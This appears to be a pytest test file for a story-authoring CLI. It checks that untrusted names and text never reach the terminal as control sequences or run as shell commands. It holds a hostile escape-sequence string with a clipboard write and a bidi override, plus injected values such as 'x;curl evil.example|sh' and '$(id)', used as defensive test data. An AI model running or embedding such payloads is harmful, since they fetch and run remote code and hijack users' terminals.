"""Tests that foreign text is shown as text and commands neither the terminal nor the shell."""

import json
import re
import shlex
import sqlite3
from contextlib import closing
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from questfoundry.composition.project.projects import books_in, passages_in, runs_in
from questfoundry.domain.remedy import RemoveBook, ResumeRun, RewritePassage, TalkWithBook
from questfoundry.infra.foreign import twee_passages
from questfoundry.infra.storage.database import Database
from questfoundry.presentation.remedies import command_of
from questfoundry.presentation.text import clean_json
from tests.support.qf import qf

COMMANDING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
HOSTILE = "\x1b]0;mine\x07\x1b[2J\x9b31m\x9d52;c;bWluZQ==\x9c\u202egnp.\x7f"
INSERTED = "x;curl evil.example|sh"
JSON = st.recursive(
    st.none() | st.text(max_size=30),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner),
    max_leaves=8,
)


@given(JSON)
def test_json_says_the_same_and_commands_nothing(document: object) -> None:
    """JSON goes to terminals too, so controls are escaped. (FGN-7.1)"""
    for indent in (None, 2):
        text = clean_json(document, indent=indent)
        assert not COMMANDING.search(text)
        assert json.loads(text) == document
        text.encode()


@pytest.mark.parametrize("options", [(), ("--json",)], ids=["text", "json"])
def test_a_project_commands_no_terminal(tmp_path: Path, options: tuple[str, ...]) -> None:
    """An escape sequence in a project could rewrite what the author sees. (FGN-7.1)"""
    escaped = json.dumps(HOSTILE)
    (tmp_path / "project.yaml").write_text(f"name: {escaped}\nendpoints: {{{escaped}: {{}}}}\n")
    for command in ("status", "doctor"):
        said = qf(command, "-p", str(tmp_path), *options)
        assert said.code == 3
        assert not COMMANDING.search(said.out + said.err)
    (tmp_path / "project.yaml").write_text(f"name: {escaped}\n")
    (tmp_path / "artifacts").mkdir()
    (tmp_path / "artifacts/dream.yaml").write_text(f"genre: {escaped}\n{escaped}: x\n")
    for command in ("status", "show", "runs"):
        arguments = ("dream",) if command == "show" else ()
        said = qf(command, *arguments, "-p", str(tmp_path), *options)
        assert not COMMANDING.search(said.out + said.err), command


def test_what_a_shell_completes_is_a_word(tmp_path: Path) -> None:
    """A completed name with shell characters would run a command."""
    with closing(Database(tmp_path / "story.db")) as database:
        database.execute("SELECT 1")
    with closing(sqlite3.connect(tmp_path / "story.db")) as database:
        for at, name in enumerate(("book::the-sea", f"book::{INSERTED}", "book::$(id)", "book::`")):
            columns = [row[1] for row in database.execute("PRAGMA table_info(books)")]
            row = {name: at + 10 if name == "position" else "x" for name in columns} | {"id": name}
            marks = ", ".join("?" * len(row))
            database.execute(f"INSERT INTO books VALUES ({marks})", tuple(row.values()))
        database.commit()
    assert books_in(tmp_path) == ["the-sea"]
    assert runs_in(tmp_path) == passages_in(tmp_path) == []


@pytest.mark.parametrize(
    "remedy",
    [
        ResumeRun("dream", INSERTED),
        RemoveBook(INSERTED),
        TalkWithBook(INSERTED),
        RewritePassage(INSERTED, INSERTED),
    ],
    ids=lambda remedy: type(remedy).__name__,
)
def test_a_command_to_copy_holds_a_stranger_s_name_as_one_word(remedy) -> None:
    """Authors copy suggested commands, so a foreign name must be one quoted word."""
    assert INSERTED in shlex.split(command_of(remedy))


def test_a_story_file_is_read_to_its_bound(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A huge file must not be read completely before it is refused."""
    monkeypatch.setattr(twee_passages, "MAX_BYTES", 1_000)
    (tmp_path / "a.twee").write_bytes(b":: Start\n" + b"x" * 100_000)
    said = qf("check", str(tmp_path / "a.twee"))
    assert (said.code, "more than 1,000 bytes" in said.err) == (3, True), said


@pytest.mark.parametrize("text", ["[" * 100_000, '{"a":' * 100_000, "{" * 3, "1" * 10_000])
def test_a_story_of_brackets_is_refused(tmp_path: Path, text: str) -> None:
    """Deeply nested JSON would crash the parser."""
    (tmp_path / "a.json").write_text(text)
    said = qf("check", str(tmp_path / "a.json"))
    assert said.code == 3, said.err[:300]
